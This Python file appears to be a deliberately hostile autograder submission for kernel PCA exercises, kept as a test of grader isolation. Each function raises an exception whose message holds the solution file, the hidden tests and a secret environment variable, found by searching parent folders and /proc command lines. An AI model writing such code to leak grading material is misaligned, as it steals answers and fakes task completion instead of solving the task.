"""Hostile: show secrets in the visible failure messages.

Every function raises an exception whose message is the text of ``solution.py``, of the hidden
tests and the grader's environment, wherever they can be found (``--rootdir`` in ``sys.argv``,
folders above, ancestors' command lines). Scores 0 either way; the attack succeeds if that text
reaches the report. Defeated when grading uses a folder without the solution, hidden tests are
held where the student's process cannot read them, and the worker gets a clean environment.
"""
import glob
import os
import sys


def _roots():
    argv = list(sys.argv)
    for i, arg in enumerate(argv):
        if arg == "--rootdir" and i + 1 < len(argv):
            yield argv[i + 1]
    folder = os.path.dirname(os.path.abspath(__file__))
    for _ in range(6):
        yield folder
        yield os.path.join(folder, "exercises", "ch01_kernels")
        folder = os.path.dirname(folder)
    pid = os.getppid()
    for _ in range(6):
        try:
            yield from open(f"/proc/{pid}/cmdline").read().split("\0")
            pid = int(open(f"/proc/{pid}/stat").read().rsplit(")", 1)[1].split()[1])
        except Exception:
            return


def _loot():
    found = []
    for root in _roots():
        for pattern in ("solution.py", "tests/hidden/*.py"):
            for path in glob.glob(os.path.join(root, pattern)):
                try:
                    found.append(f"== {path}\n" + open(path).read()[:400])
                except Exception:
                    pass
        if found:
            break
    secret = os.environ.get("RKMLEARN_TEST_SECRET")
    if secret:
        found.append(f"== environment: RKMLEARN_TEST_SECRET={secret}")
    return "\n".join(found) or "nothing found"


def rbf_gram(X, Y=None, sigma=1.0):
    raise RuntimeError(_loot())


center_train_test = kpca_eig = kpca_transform = rbf_gram
# The same attempt against the mini exercise of the self-check (tests/test_grading.py).
add = mul = rbf_gram
